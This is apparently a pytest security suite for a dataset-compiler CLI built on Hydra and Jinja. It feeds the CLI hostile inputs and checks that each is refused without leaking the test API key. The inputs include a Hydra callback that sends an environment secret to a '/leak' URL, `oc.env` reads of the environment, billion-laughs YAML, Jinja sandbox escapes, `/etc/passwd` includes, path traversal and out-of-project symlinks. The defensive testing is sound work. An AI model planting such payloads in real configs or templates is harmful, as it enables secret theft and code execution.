"""Attacks through config, traces, curated rows, templates and server replies: each is refused with one line
(exit 2), and nothing is run, sent, written or leaked."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from compiler.spec.compose import PACKAGE_ROOT, Project
from tests.conftest import edit
from tests.llm_server import Faults, MockLLMServer

SECRET = "sk-test-SECRETVALUE-4242"


@pytest.fixture
def server() -> Iterator[MockLLMServer]:
    with MockLLMServer() as running:
        yield running


def _dsc(args: list[str], root: Path, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "compiler.cli", *args],
        cwd=root,
        env={**os.environ, "DSC_PROJECT": str(root), "MYKEY": SECRET, **env},
        capture_output=True,
        text=True,
        timeout=300,
    )


def _snapshot(root: Path) -> dict[str, tuple[int, int]]:
    return {str(p.relative_to(root)): (p.stat().st_size, p.stat().st_mtime_ns) for p in root.rglob("*")}


def _assert_refused(done: subprocess.CompletedProcess[str], *needles: str) -> str:
    """Exit 2, one `dsc: error:` line per problem, no traceback, the secret nowhere; the first line returned."""
    assert done.returncode == 2, (done.returncode, done.stdout, done.stderr)
    assert "Traceback" not in done.stderr
    assert SECRET not in done.stderr + done.stdout
    lines = done.stderr.strip().splitlines()
    assert lines and all(line.startswith("dsc: error: ") for line in lines), done.stderr
    for needle in needles:
        # `file:LINE:` names the line; the committed files' layout moves it, so any line number matches
        pattern = re.escape(needle)
        pattern = re.sub(r"(\\.yaml):\d+:", r"\1:\\d+:", pattern)
        assert re.search(pattern, done.stderr), (needle, done.stderr)
    return lines[0]


def _assert_secret_nowhere(root: Path) -> None:
    for path in root.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path


CALLBACK = """
hydra:
  callbacks:
    leak:
      _target_: urllib.request.urlopen
      _args_: ["{url}?k=${{oc.env:MYKEY}}"]
"""


@pytest.mark.parametrize(
    ("file", "old", "new", "args", "where"),
    [
        (
            "conf/dataset/support_bot.yaml",
            "name: support_bot\n",
            "name: support_bot\n" + CALLBACK,
            ["seed=1,2"],
            "conf/dataset/support_bot.yaml:5: hydra: user files may not configure Hydra",
        ),
        (  # picked on the command line, the file still lands at the top (`dataset@_global_`): no _target_ needed
            "conf/dataset/support_bot.yaml",
            "name: support_bot\n",
            "name: support_bot\nhydra:\n  sweep:\n    dir: /tmp/dsc-escaped-sweep\n",
            ["dataset=support_bot", "seed=1,2"],
            "conf/dataset/support_bot.yaml:4: hydra: user files may not configure Hydra",
        ),
        (
            "conf/experiment/persona_sweep.yaml",
            "hydra:\n",
            CALLBACK.lstrip() + "\n",
            ["+experiment=persona_sweep"],
            "conf/experiment/persona_sweep.yaml:9: hydra.callbacks.leak._target_: names Python code for Hydra",
        ),
        (
            "conf/config.yaml",
            "  - dataset@_global_: support_bot\n",
            "  - dataset@_global_: support_bot\nhydra:\n  callbacks:\n    leak:\n      _target_: urllib.request.urlopen\n"
            '      _args_: ["{url}"]\n',
            ["seed=1,2"],
            "conf/config.yaml:35: hydra.callbacks: user files may not configure Hydra",
        ),
        (
            "conf/personas/default.yaml",
            "\n",
            '\nevil:\n  _target_: urllib.request.urlopen\n  _args_: ["{url}"]\n',
            ["seed=1,2"],
            "_target_: names Python code for Hydra to instantiate",
        ),
        (
            "conf/dataset/support_bot.yaml",
            "name: support_bot\n",
            "defaults:\n  - override /hydra/job_logging: disabled\n  - _self_\nname: support_bot\n",
            ["seed=1,2"],
            "conf/dataset/support_bot.yaml:4: defaults.0: chooses Hydra's own config",
        ),
        (
            "conf/experiment/persona_sweep.yaml",
            "      seed: 1,2\n",
            "      seed: 1,2\n      hydra.callbacks.leak._target_: urllib.request.urlopen\n",
            ["+experiment=persona_sweep"],
            "`hydra.callbacks.leak._target_`",
        ),
    ],
    ids=[
        "dataset-callback",
        "picked-dataset-sweep-dir",
        "experiment-callback",
        "config-callback",
        "persona-target",
        "defaults-hydra",
        "sweeper-param",
    ],
)
def test_a_sweep_never_runs_code_from_a_user_file(
    project: Project, server: MockLLMServer, file: str, old: str, new: str, args: list[str], where: str
) -> None:
    root = project.root
    edit(root / file, old, new.replace("{url}", server.base_url.removesuffix("/v1") + "/leak"))
    before = _snapshot(root)
    done = _dsc(["compile", "-m", *args], root)
    _assert_refused(done, where)
    assert server.stats.other == [] and server.stats.requests == 0
    # a sweeper parameter is refused by the job it reaches, after Hydra made its (empty) sweep folder
    assert {k: v for k, v in _snapshot(root).items() if not k.startswith(".dsc")} == {
        k: v for k, v in before.items() if not k.startswith(".dsc")
    }


@pytest.mark.parametrize(
    "override",
    [
        "hydra.callbacks.leak._target_=urllib.request.urlopen",
        "+hydra.job.env_set.X=1",
        "hydra.run.dir=/tmp/elsewhere",
        "hydra/job_logging=disabled",
        "description=${oc.env:MYKEY}",
        "+lm.x={_target_:builtins.print}",
    ],
    ids=["callback", "env-set", "run-dir", "logging-group", "oc-env", "target-value"],
)
def test_the_command_line_may_only_choose_a_launcher_or_sweeper(project: Project, override: str) -> None:
    before = _snapshot(project.root)
    line = _assert_refused(_dsc(["compile", "-m", "seed=1,2", override], project.root))
    assert f"command-line override `{override}`" in line
    assert _snapshot(project.root) == before


def test_documented_launcher_choices_and_sweeps_still_compose(project: Project) -> None:
    done = _dsc(
        ["plan", "+experiment=persona_sweep", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2", "seed=3"],
        project.root,
    )
    assert done.returncode == 0, done.stderr


def test_a_user_hydra_folder_is_refused(project: Project, server: MockLLMServer) -> None:
    folder = project.conf_dir / "hydra" / "launcher"
    folder.mkdir(parents=True)
    (folder / "evil.yaml").write_text(f"_target_: urllib.request.urlopen\nurl: {server.base_url}\n")
    before = _snapshot(project.root)
    _assert_refused(_dsc(["compile", "-m", "seed=1,2", "hydra/launcher=evil"], project.root), "conf/hydra")
    assert server.stats.other == [] and _snapshot(project.root) == before


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("${oc.env:MYKEY}", "uses the resolver `oc.env`"),
        ("'${oc.decode:\"${oc.env:MYKEY}\"}'", "uses the resolver `oc.decode`"),
        ("${hydra:runtime.cwd}", "uses the resolver `hydra`"),
        ("${hydra.job.name}", "refers to `hydra.job.name`"),
        ('"x ${oc.select:name,${oc.env:MYKEY}}"', "uses the resolver `oc.env`"),
    ],
    ids=["oc-env", "oc-decode", "hydra-resolver", "hydra-node", "nested"],
)
def test_interpolations_cannot_read_the_environment_into_outputs(
    project: Project, value: str, reason: str
) -> None:
    path = project.conf_dir / "dataset" / "support_bot.yaml"
    edit(path, "name: support_bot\n", f"name: support_bot\nnotes: {value}\n")
    before = _snapshot(project.root)
    line = _assert_refused(_dsc(["compile", "size=8"], project.root))
    assert re.match(r"dsc: error: conf/dataset/support_bot\.yaml:\d+: notes: " + re.escape(reason), line), (
        line
    )
    assert _snapshot(project.root) == before
    _assert_secret_nowhere(project.root)


def test_plain_references_still_work(project: Project) -> None:
    path = project.conf_dir / "dataset" / "support_bot.yaml"
    edit(path, "seed: 7\n", "seed: 7\nmax_rounds: ${coverage}\n")
    done = _dsc(["plan", "--json"], project.root)
    assert done.returncode == 0, done.stderr


def test_the_environment_resolver_is_gone_after_the_check(project: Project) -> None:
    from omegaconf import OmegaConf

    from compiler.spec.safety import check_config_safety

    check_config_safety([project.conf_dir], [], project.root)
    with pytest.raises(Exception, match="oc.env"):
        OmegaConf.to_container(OmegaConf.create({"a": "${oc.env:MYKEY}"}), resolve=True)


@pytest.mark.parametrize(
    ("override", "shown"),
    [
        (f"+lm.api_key={SECRET}", "+lm.api_key=***"),
        (f"lm.api_base=http://user:{SECRET}@127.0.0.1:9/v1", "lm.api_base=http://***@127.0.0.1:9/v1"),
    ],
    ids=["api-key", "credentials-in-url"],
)
def test_a_refused_secret_is_named_never_shown(project: Project, override: str, shown: str) -> None:
    done = _dsc(["plan", "lm=openai_compatible", "lm.model=m", override], project.root)
    _assert_refused(done, shown)


def _laughs(levels: int = 9) -> str:
    lines = ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, levels):
        prev, name = chr(96 + i), chr(97 + i)
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (_laughs(), "expands to more than"),
        ("deep: " + "[" * 120 + "]" * 120 + "\n", "nests deeper than 32 levels"),
        ("deep: " + "{a: " * 60 + "1" + "}" * 60 + "\n", "nests deeper than 32 levels"),
        ("loop: &x [*x]\n", "refers to itself or to nothing"),
    ],
    ids=["billion-laughs", "deep-list", "deep-map", "self-alias"],
)
def test_hostile_yaml_is_refused_before_it_is_expanded(project: Project, text: str, reason: str) -> None:
    path = project.conf_dir / "dataset" / "support_bot.yaml"
    path.write_text(path.read_text() + text)
    line = _assert_refused(_dsc(["plan"], project.root), reason)
    assert line.startswith("dsc: error: conf/dataset/support_bot.yaml:"), line


def test_the_shared_spaces_pass_the_safety_check() -> None:
    from compiler.spec.safety.rules import check_scanned
    from compiler.spec.safety.yaml_scan import scan_yaml_file

    shared = PACKAGE_ROOT.parent / "shared" / "spaces"  # beside the clone, as in CI
    spaces = sorted(shared.glob("*.yaml")) + sorted(
        (Path(__file__).parents[1] / "fixtures" / "spaces").glob("*.yaml")
    )
    assert spaces  # the fixtures always hold copies
    for path in spaces:
        assert check_scanned(scan_yaml_file(path, path.name), (), "group") == [], path


def _http_compile(root: Path, api_base: str) -> subprocess.CompletedProcess[str]:
    return _dsc(
        [
            "compile",
            "lm=openai_compatible",
            f"lm.api_base={api_base}",
            "lm.model=mock",
            "lm.api_key_env=MYKEY",
            "lm.max_retries=0",
            "size=6",
            "dedupe.near=null",
            "~sources",
        ],
        root,
    )


def test_an_error_body_echoing_the_key_is_redacted_before_it_is_cut(project: Project) -> None:
    faults = Faults(force={"": ("400_echo",) * 1000})
    with MockLLMServer(faults=faults) as echo:
        done = _http_compile(project.root, echo.base_url)
    assert echo.stats.requests >= 1
    assert done.returncode == 2, done.stderr
    assert "Bearer ***" in done.stderr or "rejected" in done.stderr, done.stderr
    for cut in range(8, len(SECRET) + 1):
        assert SECRET[:cut] not in done.stderr + done.stdout
    _assert_secret_nowhere(project.root)


def test_redaction_keeps_the_message_and_hides_credential_shapes() -> None:
    from compiler.generate.backends.redact import shown_message

    text = f"bad request {'x' * 180} Authorization: Bearer {SECRET} and http://u:pw@h/ api_key='k-123456'"
    shown = shown_message(text, (SECRET,))
    assert shown.startswith("bad request xxx") and len(shown) <= 200
    assert SECRET[:8] not in shown_message(text, ()) and "pw@" not in shown_message(text, ())


def test_long_provider_messages_are_cut_at_a_word() -> None:
    from compiler.core.errors import clip

    litellm = "LLM Provider NOT provided. Pass model as E.g. For 'Huggingface' endpoints pass in `completion(model=x)`"
    assert (
        clip(litellm, 90)
        == "LLM Provider NOT provided. Pass model as E.g. For 'Huggingface' endpoints pass in …"
    )
    assert clip("short  text\n", 90) == "short text" and len(clip("y" * 300, 50)) <= 50


def test_a_redirect_to_another_origin_is_refused(project: Project, server: MockLLMServer) -> None:
    with MockLLMServer() as other:
        server.redirect(other.base_url + "/chat/completions")
        done = _http_compile(project.root, server.base_url.replace("/v1", "/moved/v1"))
        assert other.stats.requests == 0 and other.stats.other == []
    _assert_refused(done, "redirected to another origin (http://127.0.0.1:")
    assert server.stats.requests == 0 and len(server.stats.other) >= 1
    assert not (project.root / "outputs").exists()
    _assert_secret_nowhere(project.root)


def test_a_redirect_within_the_origin_is_followed(project: Project, server: MockLLMServer) -> None:
    server.redirect("/v1/chat/completions")
    done = _http_compile(project.root, server.base_url.replace("/v1", "/moved/v1"))
    assert done.returncode == 0, done.stderr
    assert server.stats.requests >= 6 and len(server.stats.other) == server.stats.requests
    _assert_secret_nowhere(project.root)


def _deep_json(depth: int = 2000) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize(
    ("file", "line", "where"),
    [
        (
            "data/traces/support_bot.jsonl",
            '{"input": "hi", "x": DEEP}',
            "data/traces/support_bot.jsonl:301: the trace",
        ),
        (
            "datasets/support_bot/golden.jsonl",
            '{"inputs": {"customer_message": DEEP}}',
            "datasets/support_bot/golden.jsonl:1: the row",
        ),
        (
            "datasets/support_bot/regression.jsonl",
            '{"inputs": {"customer_message": "x"}, "notes": DEEP}',
            "datasets/support_bot/regression.jsonl:1: the row",
        ),
    ],
    ids=["trace", "golden", "regression-shallow-enough-for-python"],
)
def test_deeply_nested_json_is_one_line_with_file_and_line(
    project: Project, file: str, line: str, where: str
) -> None:
    path = project.root / file
    path.parent.mkdir(parents=True, exist_ok=True)
    depth = 2000 if "shallow" not in where else 200
    with path.open("a", encoding="utf-8") as handle:
        handle.write(line.replace("DEEP", _deep_json(depth)) + "\n")
    before = _snapshot(project.root)
    _assert_refused(_dsc(["compile", "size=6"], project.root), where, "nests deeper than 64 levels")
    assert _snapshot(project.root) == before


def test_json_depth_is_measured_without_recursion() -> None:
    from compiler.core.limits import NestingError, json_depth, load_json

    assert json_depth(load_json('{"a": [1, {"b": []}]}')) == 4
    # half a UTF-16 pair alone becomes U+FFFD (keys too); a whole pair is the character it spells
    assert load_json('{"k\\udc00": ["x\\ud83d", "\\ud83d\\ude00"]}') == {"k\ufffd": ["x\ufffd", "\U0001f600"]}
    assert load_json("[" * 64 + "]" * 64) is not None
    with pytest.raises(NestingError):
        load_json("[" * 65 + "]" * 65)
    with pytest.raises(NestingError):
        load_json(_deep_json(100_000))


@pytest.mark.parametrize(
    ("expression", "reason"),
    [
        ("{{ dataset.name | uper }}", "templates/direct.j2:3: syntax error: No filter named 'uper'"),
        ("{{ 1/0 }}", "templates/direct.j2:3: fails when rendered for strategy direct (ZeroDivisionError"),
        (
            "{{ dataset.name.__class__ }}",
            "templates/direct.j2:3: fails when rendered for strategy direct (SecurityError",
        ),
        ("{{ dataset.name | truncate(0 - 5) }}", "templates/direct.j2:3: fails when rendered"),
        (
            "{% if case.slot is evenn %}x{% endif %}",
            "templates/direct.j2:3: fails when rendered for strategy direct (TemplateRuntimeError: No test named 'evenn'",
        ),
    ],
    ids=["filter-typo", "zero-division", "sandbox", "filter-argument", "test-typo"],
)
def test_a_template_problem_is_one_line_before_any_lm_call(
    project: Project, server: MockLLMServer, expression: str, reason: str
) -> None:
    edit(project.templates_dir / "direct.j2", "Strategy: direct.", "Strategy: direct.\n" + expression)
    before = _snapshot(project.root)
    done = _http_compile(project.root, server.base_url)
    line = _assert_refused(done)
    assert reason in line, line
    assert server.stats.requests == 0 and _snapshot(project.root) == before


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("Hello {{ customer_message.__class__.__mro__ }}", "SecurityError"),
        ("Hello {{ customer_message | int / 0 }}", "ZeroDivisionError"),
        (
            "Hello {{ customer_message | uper }}",
            "prompt.text: line 1 does not compile as Jinja (No filter named 'uper'",
        ),
        ("Hello {{ customer_message | random }}", "so that a compile is reproducible"),
        ("Hello {{ lipsum(1) }}", "removes Jinja's `lipsum` function"),
        ("Hello {% include '/etc/passwd' %}", "line 1 includes, imports or extends another template"),
    ],
    ids=["sandbox", "zero-division", "filter-typo", "random-filter", "lipsum", "include"],
)
def test_a_prompt_that_fails_to_render_is_found_by_compile(
    project: Project, server: MockLLMServer, text: str, reason: str
) -> None:
    path = project.conf_dir / "dataset" / "support_bot.yaml"
    source = path.read_text()
    start = source.index("  text: ")
    end = source.index("\n", source.index("{{ customer_message }}", start))
    path.write_text(source[:start] + f'  text: "{text}"' + source[end:])
    before = _snapshot(project.root)
    _assert_refused(_http_compile(project.root, server.base_url), "prompt.text", reason)
    assert server.stats.requests == 0 and _snapshot(project.root) == before


@pytest.mark.parametrize(
    ("old", "new", "key"),
    [
        (
            "name: support_bot\n",
            "name: ../../escaped\n",
            "name: `../../escaped` is not a usable dataset name",
        ),
        (
            "name: support_bot\n",
            "name: support_bot\nout_dir: /tmp/dsc-elsewhere\n",
            "out_dir: `/tmp/dsc-elsewhere` is absolute",
        ),
        (
            "name: support_bot\n",
            "name: support_bot\njournal_dir: ../journal\n",
            "journal_dir: `../journal` climbs out",
        ),
        (
            "    path: data/traces/*.jsonl\n",
            "    path: /etc/hostname\n",
            "sources.production.path: `/etc/hostname` is absolute; give a path relative to the project; "
            "sources are files inside the project",
        ),
        (
            "    path: data/traces/*.jsonl\n",
            "    path: ../*/traces/*.jsonl\n",
            "climbs out with `..`",
        ),
    ],
    ids=["name", "out-dir-absolute", "journal-dir-dotdot", "production-absolute", "production-dotdot"],
)
def test_paths_in_config_files_stay_inside_the_project(
    project: Project, old: str, new: str, key: str
) -> None:
    edit(project.conf_dir / "dataset" / "support_bot.yaml", old, new)
    canary = project.root.parent / "canary-outside"
    canary.mkdir(exist_ok=True)
    before, outside = _snapshot(project.root), _snapshot(canary)
    _assert_refused(_dsc(["compile", "size=6"], project.root), "conf/dataset/support_bot.yaml", key)
    assert _snapshot(project.root) == before and _snapshot(canary) == outside


def test_a_symlink_out_of_the_project_is_refused(
    project: Project, tmp_path_factory: pytest.TempPathFactory
) -> None:
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (project.root / "outputs").symlink_to(elsewhere, target_is_directory=True)
    _assert_refused(_dsc(["compile", "size=6"], project.root), "out_dir: `outputs` resolves to")
    assert list(elsewhere.iterdir()) == []
    (project.root / "data" / "escape.jsonl").symlink_to(Path("/etc/hostname"))
    edit(project.conf_dir / "dataset" / "support_bot.yaml", "data/traces/*.jsonl", "data/*.jsonl")
    done = _dsc(["plan", "out_dir=" + str(elsewhere)], project.root)
    _assert_refused(done, "a symlink out of the project")


def test_a_folder_given_on_the_command_line_may_be_anywhere(
    project: Project, tmp_path_factory: pytest.TempPathFactory
) -> None:
    shared = tmp_path_factory.mktemp("shared")
    done = _dsc(["plan", f"journal_dir={shared}", f"out_dir={shared}/outputs"], project.root)
    assert done.returncode == 0, done.stderr


@pytest.fixture
def version(project: Project) -> str:
    done = _dsc(["compile", "size=6", "dedupe.near=null", "~sources"], project.root)
    assert done.returncode == 0, done.stderr
    return done.stdout.split(" -> ")[1].split()[0]


PRIVATE = [
    "07700 900123",
    "4155550134",
    "4111.1111.1111.1111",
    "DE89-3704-0044-0532-0130-00",
    "jörg@müller.de",
    "john(at)example(dot)com",
    "AKIAIOSFODNN7EXAMPLE",
    "020 7946 0958",
]


def _golden_row(**changes: object) -> str:
    source = Path(__file__).resolve().parents[2] / "datasets" / "support_bot" / "golden.jsonl"
    row = json.loads(source.read_text(encoding="utf-8").splitlines()[0])
    row.update(changes)
    return json.dumps(row, ensure_ascii=False)


@pytest.mark.parametrize(
    ("field", "value"),
    [("strategy", "leak-jörg@müller.de"), ("variant", "AKIAIOSFODNN7EXAMPLE"), ("variant", "x" * 80)],
    ids=["strategy-email", "variant-aws-key", "variant-too-long"],
)
def test_a_curated_label_holding_private_data_is_refused(project: Project, field: str, value: str) -> None:
    path = project.root / "datasets" / "support_bot" / "golden.jsonl"
    path.parent.mkdir(parents=True)
    path.write_text(_golden_row(**{field: value}) + "\n", encoding="utf-8")
    before = _snapshot(project.root)
    done = _dsc(["compile", "size=8", "~sources.production"], project.root)
    _assert_refused(done, "datasets/support_bot/golden.jsonl:1: golden row")
    assert value not in done.stderr + done.stdout
    assert _snapshot(project.root) == before


def test_every_field_of_a_curated_row_is_scrubbed_before_it_is_written(project: Project) -> None:
    path = project.root / "datasets" / "support_bot" / "golden.jsonl"
    path.parent.mkdir(parents=True)
    message = "Call me on " + ", ".join(PRIVATE[:5]) + " or " + PRIVATE[5]
    row = _golden_row(inputs={"customer_message": message}, notes=f"key {PRIVATE[6]} tel {PRIVATE[7]}")
    path.write_text(row + "\n", encoding="utf-8")
    done = _dsc(["compile", "size=8", "~sources.production"], project.root)
    assert done.returncode == 0, done.stderr
    written = [p for p in (project.root / "outputs").rglob("*") if p.is_file()]
    cases = next(p for p in written if p.name == "cases.jsonl").read_text(encoding="utf-8")
    assert "<PHONE_1>" in cases and "<EMAIL_2>" in cases and "<IBAN_1>" in cases, cases[:2000]
    for value in PRIVATE:
        assert value not in done.stdout + done.stderr
        for file in written:
            assert value.encode() not in file.read_bytes(), (value, file)


def test_a_virtual_environment_inside_the_project_is_not_a_plugin_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from compiler.spec.safety import project_plugins

    venv_site = tmp_path / ".venv" / "lib" / "python3.11" / "site-packages"
    (venv_site / "hydra_plugins").mkdir(parents=True)  # hydra-joblib-launcher installs one
    planted = tmp_path / "src"
    (planted / "hydra_plugins").mkdir(parents=True)
    monkeypatch.setattr(sys, "prefix", str(tmp_path / ".venv"))
    monkeypatch.setattr(sys, "path", [str(venv_site), str(planted)])
    assert project_plugins(tmp_path) == [str((planted / "hydra_plugins").resolve())]


@pytest.mark.parametrize(
    "text",
    [
        "a: b: c\n",  # libyaml: "mapping values are not allowed in this context"
        "a:\n  - b\n - c\n",
        "a: @x\n",
        "key: 1\n\tb: 2\n",  # libyaml reads tabs PyYAML refuses
        "a:\t1\n",
        "name: x\nlist: [1, {b: &y 2}, *y]\nq: 'it''s'\nblock: |\n  one\n  two\n",
    ],
    ids=["mapping-value", "bad-indent", "reserved-char", "tab-indent", "tab-value", "valid"],
)
def test_the_scan_reads_and_words_yaml_as_pyyaml_does(text: str) -> None:
    import yaml

    from compiler.core.errors import ConfigError
    from compiler.spec.safety import yaml_scan

    def outcome(scan: Callable[[], object]) -> object:
        try:
            return scan()
        except ConfigError as exc:
            return str(exc)

    assert outcome(lambda: yaml_scan.scan_yaml_text(text, "f.yaml")) == outcome(
        lambda: yaml_scan._scan_events(text, "f.yaml", yaml.SafeLoader)
    )
